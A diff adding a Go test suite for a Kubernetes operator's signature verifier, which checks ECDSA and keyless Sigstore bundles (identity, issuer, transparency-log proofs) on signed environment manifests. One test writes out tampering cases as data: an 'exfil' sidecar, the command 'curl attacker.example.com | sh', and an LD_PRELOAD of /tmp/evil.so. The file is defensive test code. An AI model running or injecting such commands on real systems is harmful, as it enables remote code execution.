@@ -0,0 +1,282 @@
+/*
+Copyright 2026.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+package controller
+
+import (
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"regexp"
+
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+
+	protobundle "github.com/sigstore/protobuf-specs/gen/pb-go/bundle/v1"
+	protocommon "github.com/sigstore/protobuf-specs/gen/pb-go/common/v1"
+	protorekor "github.com/sigstore/protobuf-specs/gen/pb-go/rekor/v1"
+	"github.com/sigstore/sigstore-go/pkg/bundle"
+	"github.com/sigstore/sigstore-go/pkg/root"
+	"github.com/sigstore/sigstore-go/pkg/testing/ca"
+	"github.com/sigstore/sigstore-go/pkg/tlog"
+	"github.com/sigstore/sigstore-go/pkg/verify"
+	corev1 "k8s.io/api/core/v1"
+	"k8s.io/apimachinery/pkg/api/resource"
+
+	appsv1alpha1 "github.com/jeffvincent/kindling/api/v1alpha1"
+)
+
+// signedManifest is a v1beta1 manifest as kindling sign signs it.
+const signedManifest = `{"apiVersion":"apps.example.com/v1beta1","kind":"DevStagingEnvironment",` +
+	`"metadata":{"name":"test-app"},"spec":{"deployment":{"image":"my-image:latest","port":8080,"replicas":1,` +
+	`"resources":{"limits":{"memory":"256Mi"}}},"service":{"port":80,"type":"ClusterIP"}}}`
+
+var _ = Describe("signatures", func() {
+	// signedDSE returns the environment signedManifest describes, after
+	// defaulting, with the annotations of bundle.
+	signedDSE := func(bundle map[string]interface{}) (*appsv1alpha1.DevStagingEnvironment, error) {
+		data, err := json.Marshal(bundle)
+		if err != nil {
+			return nil, err
+		}
+		cr := newTestDSE("test-app")
+		memory, cpuRequest, memoryRequest := resource.MustParse("256Mi"), resource.MustParse("100m"), resource.MustParse("128Mi")
+		cr.Spec.Deployment.Resources = &appsv1alpha1.ResourceRequirements{
+			MemoryLimit: &memory, CPURequest: &cpuRequest, MemoryRequest: &memoryRequest,
+		}
+		cr.Spec.Deployment.ImagePullPolicy = corev1.PullIfNotPresent
+		cr.Annotations = map[string]string{
+			SignedManifestAnnotation:  signedManifest,
+			SignatureBundleAnnotation: string(data),
+		}
+		return cr, nil
+	}
+
+	messageSignature := func(key *ecdsa.PrivateKey) ([]byte, map[string]interface{}) {
+		digest := sha256.Sum256([]byte(signedManifest))
+		sig, err := ecdsa.SignASN1(rand.Reader, key, digest[:])
+		Expect(err).NotTo(HaveOccurred())
+		return sig, map[string]interface{}{
+			"messageDigest": map[string]interface{}{"algorithm": "SHA2_256", "digest": digest[:]},
+			"signature":     sig,
+		}
+	}
+
+	It("accepts an environment whose defaulted spec is the signed one", func() {
+		key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+		Expect(err).NotTo(HaveOccurred())
+		v := &SignatureVerifier{PublicKey: &key.PublicKey}
+		_, msg := messageSignature(key)
+
+		cr, err := signedDSE(map[string]interface{}{"messageSignature": msg})
+		Expect(err).NotTo(HaveOccurred())
+		signer, err := v.Verify(cr)
+		Expect(err).NotTo(HaveOccurred())
+		Expect(signer).To(Equal("the signing key"))
+
+		cr.Spec.Deployment.Image = "my-image:evil"
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("spec.deployment.image differs")))
+
+		cr, _ = signedDSE(map[string]interface{}{"messageSignature": msg})
+		cr.Spec.Deployment.Resources = nil
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("spec.deployment.resources")), "the v1beta1 limits are signed as v1alpha1 fields")
+
+		cr, _ = signedDSE(map[string]interface{}{"messageSignature": msg})
+		cr.Spec.Deployment.ImagePullPolicy = ""
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("spec.deployment.imagePullPolicy differs")), "the signed spec is compared after defaulting")
+
+		other, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+		Expect(err).NotTo(HaveOccurred())
+		_, err = (&SignatureVerifier{PublicKey: &other.PublicKey}).Verify(newTestDSE("test-app"))
+		Expect(err).To(Equal(errUnsigned))
+		cr, _ = signedDSE(map[string]interface{}{"messageSignature": msg})
+		_, err = (&SignatureVerifier{PublicKey: &other.PublicKey}).Verify(cr)
+		Expect(err).To(MatchError("the signature doesn't verify"))
+	})
+
+	It("rejects an environment with fields the manifest doesn't sign", func() {
+		key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+		Expect(err).NotTo(HaveOccurred())
+		v := &SignatureVerifier{PublicKey: &key.PublicKey}
+		_, msg := messageSignature(key)
+
+		cr, err := signedDSE(map[string]interface{}{"messageSignature": msg})
+		Expect(err).NotTo(HaveOccurred())
+		cr.Spec.Deployment.Sidecars = []appsv1alpha1.SidecarSpec{{Name: "exfil", Image: "attacker/exfil:latest"}}
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("spec.deployment.sidecars differs")))
+
+		cr, _ = signedDSE(map[string]interface{}{"messageSignature": msg})
+		cr.Spec.Deployment.Command = []string{"sh", "-c", "curl attacker.example.com | sh"}
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("spec.deployment.command differs")))
+
+		cr, _ = signedDSE(map[string]interface{}{"messageSignature": msg})
+		cr.Spec.Deployment.Env = []corev1.EnvVar{{Name: "LD_PRELOAD", Value: "/tmp/evil.so"}}
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("spec.deployment.env differs")))
+	})
+
+	It("checks a keyless signature's certificate, identity, and log entry", func() {
+		vs, err := ca.NewVirtualSigstore()
+		Expect(err).NotTo(HaveOccurred())
+		v := &SignatureVerifier{
+			TrustedRoot: vs,
+			Identity:    regexp.MustCompile(`^(?:.*@example\.com)$`),
+			Issuer:      "https://accounts.example.com",
+		}
+
+		signed := keylessBundle(vs, "platform@example.com")
+		cr, err := signedDSE(signed)
+		Expect(err).NotTo(HaveOccurred())
+		signer, err := v.Verify(cr)
+		Expect(err).NotTo(HaveOccurred())
+		Expect(signer).To(Equal("platform@example.com"))
+
+		v.Identity = regexp.MustCompile(`^(?:ci@example\.com)$`)
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("expected SAN value")))
+
+		v.Identity = regexp.MustCompile(`^(?:.*@example\.com)$`)
+		v.Issuer = "https://token.actions.githubusercontent.com"
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("expected issuer value")))
+
+		// The log entry of another signer's signature doesn't vouch for
+		// this certificate.
+		v.Issuer = "https://accounts.example.com"
+		other := keylessBundle(vs, "intruder@example.com")
+		signed["verificationMaterial"].(map[string]interface{})["tlogEntries"] = other["verificationMaterial"].(map[string]interface{})["tlogEntries"]
+		cr, _ = signedDSE(signed)
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("transparency log signature does not match")))
+
+		// Nor does a log entry whose inclusion proof is for another tree.
+		signed = keylessBundle(vs, "platform@example.com")
+		entry := signed["verificationMaterial"].(map[string]interface{})["tlogEntries"].([]interface{})[0].(map[string]interface{})
+		entry["inclusionProof"].(map[string]interface{})["rootHash"] = base64.StdEncoding.EncodeToString(make([]byte, sha256.Size))
+		cr, _ = signedDSE(signed)
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("failed to verify log inclusion")))
+
+		// Nor a bundle from a Sigstore the trusted root doesn't name.
+		vs2, err := ca.NewVirtualSigstore()
+		Expect(err).NotTo(HaveOccurred())
+		cr, _ = signedDSE(keylessBundle(vs2, "platform@example.com"))
+		_, err = v.Verify(cr)
+		Expect(err).To(MatchError(ContainSubstring("not enough verified log entries")))
+	})
+
+	It("verifies a bundle from a Sigstore deployment", func() {
+		// sigstore-go's test bundle from its scaffolding deployment, over
+		// a blob of this SHA-256, by a certificate whose only SAN is an
+		// otherName.
+		trusted, err := root.NewTrustedRootFromPath(filepath.Join("testdata", "sigstore", "scaffolding-trusted-root.json"))
+		Expect(err).NotTo(HaveOccurred())
+		bundleJSON, err := os.ReadFile(filepath.Join("testdata", "sigstore", "othername.sigstore.json"))
+		Expect(err).NotTo(HaveOccurred())
+		digest, err := hex.DecodeString("bc103b4a84971ef6459b294a2b98568a2bfb72cded09d4acd1e16366a401f95b")
+		Expect(err).NotTo(HaveOccurred())
+		v := &SignatureVerifier{
+			TrustedRoot: trusted,
+			Identity:    regexp.MustCompile(`^(?:foo!oidc\.local)$`),
+			Issuer:      "http://oidc.local:8080",
+		}
+
+		signer, err := v.verifyKeyless(bundleJSON, verify.WithArtifactDigest("sha256", digest))
+		Expect(err).NotTo(HaveOccurred())
+		Expect(signer).To(Equal("foo!oidc.local"))
+
+		other := sha256.Sum256([]byte(signedManifest))
+		_, err = v.verifyKeyless(bundleJSON, verify.WithArtifactDigest("sha256", other[:]))
+		Expect(err).To(HaveOccurred())
+
+		v.Identity = regexp.MustCompile(`^(?:foo@oidc\.local)$`)
+		_, err = v.verifyKeyless(bundleJSON, verify.WithArtifactDigest("sha256", digest))
+		Expect(err).To(HaveOccurred())
+	})
+})
+
+// keylessBundle signs signedManifest on vs as identity and returns the
+// bundle as cosign sign-blob --new-bundle-format writes it, with its log
+// entry's signed entry timestamp and inclusion proof.
+func keylessBundle(vs *ca.VirtualSigstore, identity string) map[string]interface{} {
+	entity, err := vs.Sign(identity, "https://accounts.example.com", []byte(signedManifest))
+	Expect(err).NotTo(HaveOccurred())
+	content, err := entity.VerificationContent()
+	Expect(err).NotTo(HaveOccurred())
+	signature, err := entity.SignatureContent()
+	Expect(err).NotTo(HaveOccurred())
+	message := signature.MessageSignatureContent()
+	entries, err := entity.TlogEntries()
+	Expect(err).NotTo(HaveOccurred())
+
+	// The virtual log signs an entry timestamp; give the entry an
+	// inclusion proof as well, as Rekor does.
+	entry := entries[0].TransparencyLogEntry()
+	logID, err := vs.RekorLogID()
+	Expect(err).NotTo(HaveOccurred())
+	set, err := vs.RekorSignPayload(tlog.RekorPayload{
+		Body:           base64.StdEncoding.EncodeToString(entry.CanonicalizedBody),
+		IntegratedTime: entry.IntegratedTime,
+		LogID:          logID,
+	})
+	Expect(err).NotTo(HaveOccurred())
+	proof, err := vs.GetInclusionProof(entry.CanonicalizedBody)
+	Expect(err).NotTo(HaveOccurred())
+	rootHash, err := hex.DecodeString(*proof.RootHash)
+	Expect(err).NotTo(HaveOccurred())
+	var kind struct{ Kind, APIVersion string }
+	Expect(json.Unmarshal(entry.CanonicalizedBody, &kind)).To(Succeed())
+	entry.KindVersion = &protorekor.KindVersion{Kind: kind.Kind, Version: kind.APIVersion}
+	entry.LogIndex = 0
+	entry.InclusionPromise = &protorekor.InclusionPromise{SignedEntryTimestamp: set}
+	entry.InclusionProof = &protorekor.InclusionProof{
+		LogIndex:   *proof.LogIndex,
+		RootHash:   rootHash,
+		TreeSize:   *proof.TreeSize,
+		Checkpoint: &protorekor.Checkpoint{Envelope: *proof.Checkpoint},
+	}
+
+	b, err := bundle.NewBundle(&protobundle.Bundle{
+		MediaType: "application/vnd.dev.sigstore.bundle.v0.3+json",
+		VerificationMaterial: &protobundle.VerificationMaterial{
+			Content: &protobundle.VerificationMaterial_Certificate{
+				Certificate: &protocommon.X509Certificate{RawBytes: content.Certificate().Raw},
+			},
+			TlogEntries: []*protorekor.TransparencyLogEntry{entry},
+		},
+		Content: &protobundle.Bundle_MessageSignature{MessageSignature: &protocommon.MessageSignature{
+			MessageDigest: &protocommon.HashOutput{Algorithm: protocommon.HashAlgorithm_SHA2_256, Digest: message.Digest()},
+			Signature:     message.Signature(),
+		}},
+	})
+	Expect(err).NotTo(HaveOccurred())
+	data, err := b.MarshalJSON()
+	Expect(err).NotTo(HaveOccurred())
+	var doc map[string]interface{}
+	Expect(json.Unmarshal(data, &doc)).To(Succeed())
+	return doc
+}